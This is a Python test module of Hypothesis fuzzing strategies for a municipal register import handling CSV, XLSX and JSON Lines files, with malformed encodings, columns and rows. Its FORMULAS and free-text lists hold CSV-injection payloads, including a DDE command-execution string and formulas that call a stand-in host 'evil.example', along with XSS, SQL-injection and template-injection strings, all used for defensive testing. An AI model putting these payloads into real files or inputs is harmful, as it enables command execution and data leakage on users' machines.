"""Hypothesis strategies for register imports: CSV and XLSX files and JSON Lines sync bodies.

What RIEC partners, spreadsheets and broken scripts really send: a valid export with some cells
made hostile (formulas, control characters, scripts, 100,000-character fields, wrong types),
duplicated or missing external ids, shuffled, missing, duplicated or renamed columns, rows with
too many or too few cells, every delimiter, UTF-8 with or without BOM, UTF-16, Windows-1252 and
Latin-1, files cut off half-way, random bytes; for the API, lines that are not JSON, not objects,
of the wrong shape or type, in the wrong encoding, cut off, or over the size limit.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime

from hypothesis import strategies as st

from tests.barrier.register.conftest import HEADER, row
from tests.fuzz.strategies import long_text, scalar

# Spreadsheet formula payloads (OWASP CSV injection), as the first characters of a cell.
FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example","klik")', "=cmd|' /C calc'!A0", "+31 6 12345678",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")"]
# Values that are valid somewhere in the file, so that many generated files are (partly) valid.
GOOD = ["persoon", "organisatie", "adres", "riec", "faillissement", "sanctielijst", "inspectie", "GM0106",
        "Assen", "Emmen", "regionaal", "eigen gemeente", "bibob-coördinatoren", "17-05-1980", "1980-05-17",
        "9401 AB", "9401ab", "12", "7a", "12345678", "1234567", "Jansen", "de", "Jan", "Kloosterstraat"]


def cell() -> st.SearchStrategy[str]:
    """One hostile, oversized, formula, or valid-elsewhere value."""
    return st.one_of(scalar(), st.sampled_from(FORMULAS), st.sampled_from(GOOD), long_text())


#: Columns whose text is free (a formula there is stored neutralised, with a warning).
TEXT_COLUMNS = ("Registratienummer", "Voornamen", "Achternaam", "Straat", "Plaats", "Reden")
LEVELS = ("clean", "formulas", "formulas", "hostile", "broken")


def free_text() -> st.SearchStrategy[str]:
    return st.sampled_from([*FORMULAS, '<script>alert("barrier")</script>', "Ĳsselmeer", "Müller-Lüdenscheidt",
                            "Łukasz", "Ștefan", "😀", "' OR '1'='1' --", "{{ 7*7 }}", "a;b", 'een "quote"'])


@st.composite
def table(draw) -> tuple[str, list[str], list[list[str]]]:
    """(level, header, rows): a valid export, with formulas in its free text, or made hostile."""
    level = draw(st.sampled_from(LEVELS))
    header = list(draw(st.permutations(HEADER))) if draw(st.booleans()) else list(HEADER)
    if level in ("hostile", "broken") and draw(st.booleans()):
        if draw(st.booleans()):  # columns dropped
            drop = draw(st.sets(st.sampled_from(header), max_size=4))
            header = [h for h in header if h not in drop]
        else:  # a duplicated, a hostile or an empty column name
            header.insert(draw(st.integers(0, len(header))), draw(st.one_of(st.sampled_from(HEADER), cell())))
    rows: list[list[str]] = []
    count = draw(st.integers(0 if level in ("hostile", "broken") else 1, 12))
    for number in range(count):
        # Hostile files take ids from a small pool: duplicates in the file.
        ext = f"R-{draw(st.integers(0, count + 2))}" if level in ("hostile", "broken") else f"R-{number}"
        values = dict(zip(HEADER, row(ext=ext, surname=f"Fuzzman{number}"), strict=True))
        for key in values:
            if level == "formulas" and key in TEXT_COLUMNS and draw(st.integers(0, 3)) == 0:
                values[key] = draw(free_text(), label=key)
            elif level in ("hostile", "broken") and draw(st.integers(0, 5)) == 0:
                values[key] = draw(cell(), label=key)
        cells = [values[h] if h in values else draw(cell()) for h in header]
        shape = draw(st.integers(0, 5)) if level == "broken" else 5
        if shape == 0:
            cells = cells[:draw(st.integers(0, len(cells)))]  # too few cells
        elif shape == 1:
            cells += draw(st.lists(cell(), min_size=1, max_size=3))  # too many
        rows.append(cells)
    return level, header, rows


ENCODINGS = ["utf-8", "utf-8-sig", "utf-8-sig", "cp1252", "latin-1", "utf-16"]


@st.composite
def tampered(draw, data: bytes, chance: int = 3) -> bytes:
    """The file as saved, or (*chance* in 10) cut off half-way, with bytes injected, or random bytes."""
    how = draw(st.integers(0, 9)) if draw(st.integers(0, 9)) < chance else 9
    # A position as a fraction of the length: the same draws whatever the length (an XLSX file holds
    # its save time, so its length may differ when hypothesis replays an example).
    position = len(data) * draw(st.integers(0, 9_999)) // 10_000 if how in (0, 1) else 0
    if how == 0 and data:
        return data[:position]  # half-written
    if how == 1:
        return data[:position] + draw(st.binary(min_size=1, max_size=16)) + data[position:]
    if how == 2:
        return draw(st.binary(max_size=2048))
    return data


@st.composite
def csv_file(draw) -> bytes:
    level, header, rows = draw(table())
    delimiter = draw(st.sampled_from([";", ";", ",", "\t", "|"]))
    buffer = io.StringIO()
    if draw(st.booleans()):
        writer = csv.writer(buffer, delimiter=delimiter, lineterminator=draw(st.sampled_from(["\r\n", "\n"])))
        for cells in [header, *rows]:
            writer.writerow(cells)
    else:  # joined by hand, as a careless script does: quotes and delimiters inside cells break it
        buffer.write("\r\n".join(delimiter.join(cells) for cells in [header, *rows]))
        if draw(st.booleans()):
            buffer.write("\r\n")
    data = buffer.getvalue().encode(draw(st.sampled_from(ENCODINGS)), errors="replace")
    return draw(tampered(data, 3 if level in ("hostile", "broken") else 1))


def _xlsx_value(text: str):
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    # openpyxl refuses control characters in cells (Excel cannot store them either).
    return ILLEGAL_CHARACTERS_RE.sub("", text)[:32_000]


@st.composite
def xlsx_file(draw) -> bytes:
    from openpyxl import Workbook

    level, header, rows = draw(table())
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([_xlsx_value(h) for h in header])
    typed = st.one_of(st.none(), st.integers(-(10**15), 10**15), st.floats(allow_nan=False, allow_infinity=False),
                      st.booleans(), st.dates(min_value=date(1900, 1, 1)),
                      st.datetimes(min_value=datetime(1900, 1, 1)))
    for cells in rows:
        # Excel types its cells: numbers, dates, booleans and empty cells among the text.
        sheet.append([draw(typed) if level in ("hostile", "broken") and draw(st.integers(0, 6)) == 0
                      else _xlsx_value(c) for c in cells])
    if draw(st.integers(0, 5)) == 0:  # a second sheet is ignored; the first one counts
        workbook.create_sheet("Toelichting").append(["Dit blad wordt niet gelezen"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return draw(tampered(buffer.getvalue(), 3 if level in ("hostile", "broken") else 1))


# --- JSON Lines for the API's register sync ----------------------------------------------------------------

UPSERT_KEYS = ["external_id", "kind", "given_names", "surname_prefix", "surname", "birth_date", "nationality", "bsn",
               "name", "legal_form", "kvk_number", "street", "house_number", "house_number_suffix", "postcode", "city",
               "country", "source", "reason", "gemeente", "recorded_on", "valid_until", "confidentiality"]


def _json_value() -> st.SearchStrategy:
    return st.one_of(st.none(), st.booleans(), st.integers(-(10**20), 10**20), st.floats(allow_nan=False),
                     scalar(), st.sampled_from(FORMULAS), st.lists(st.integers(), max_size=3),
                     st.dictionaries(st.text(max_size=5), st.integers(), max_size=2))


@st.composite
def register_line(draw, ids: list[str], hostile: bool = True) -> dict:
    external_id = draw(st.sampled_from(ids))
    if draw(st.integers(0, 5)) == 0:
        return {"op": "delete", "external_id": external_id, "reason": draw(st.one_of(st.just("Rechtsherstel"), scalar()))}
    kind = draw(st.sampled_from(["persoon", "organisatie", "adres"]))
    line = {"op": "upsert", "external_id": external_id, "kind": kind, "source": "riec_signaal",
            "reason": "Signaal uitbuiting"}
    if kind == "persoon":
        line.update(given_names="Pieter", surname=f"Fuzzman {external_id}", birth_date="1980-05-17")
    elif kind == "organisatie":
        line.update(name=f"Fuzz Holding {external_id} B.V.", kvk_number="87654321")
    else:
        line.update(street="Kloosterstraat", house_number="12", postcode="9401 AB", city="Assen")
    if not hostile:  # formulas and scripts in the free text only: valid, stored neutralised
        for key in draw(st.sets(st.sampled_from(["given_names", "surname", "name", "street", "city", "reason"]))):
            if key in line:
                line[key] = draw(free_text())
        return line
    for _ in range(draw(st.integers(0, 3))):  # hostile, oversized, wrong-typed or unknown fields
        key = draw(st.one_of(st.sampled_from([*UPSERT_KEYS, "op"]), st.text(max_size=12)))
        line[key] = draw(st.one_of(_json_value(), long_text()))
    if draw(st.integers(0, 8)) == 0:
        line.pop(draw(st.sampled_from(sorted(line))))  # a required field missing
    return line


@st.composite
def jsonl_body(draw) -> bytes:
    ids = [f"fuzz-{n}" for n in range(draw(st.integers(1, 6)))]
    hostile = draw(st.booleans())
    lines: list[bytes] = []
    for number in range(draw(st.integers(0 if hostile else 1, 8))):
        if not hostile:  # each id once: a sync a partner could really send
            lines.append(json.dumps(draw(register_line([f"fuzz-{number}"], hostile=False))).encode())
            continue
        kind = draw(st.integers(0, 11))
        if kind == 0:
            lines.append(json.dumps(draw(_json_value())).encode())  # JSON, but not an object
        elif kind == 1:
            lines.append(draw(st.one_of(st.binary(max_size=40), scalar().map(lambda s: s.encode(errors="replace")))))
        elif kind == 2:
            lines.append(b"")  # blank lines are allowed
        else:
            lines.append(json.dumps(draw(register_line(ids)), ensure_ascii=draw(st.booleans())).encode())
    body = draw(st.sampled_from([b"\n", b"\r\n"])).join(lines)
    if draw(st.booleans()):
        body += b"\n"
    how = draw(st.integers(0, 9)) if hostile else 9
    if how == 0:
        body = body.decode(errors="replace").encode("utf-16")  # the wrong encoding
    elif how == 1:
        body = body.decode(errors="replace").encode("cp1252", errors="replace")
    elif how == 2:
        body = b"\xef\xbb\xbf" + body  # a BOM
    return draw(tampered(body, 3 if hostile else 0))
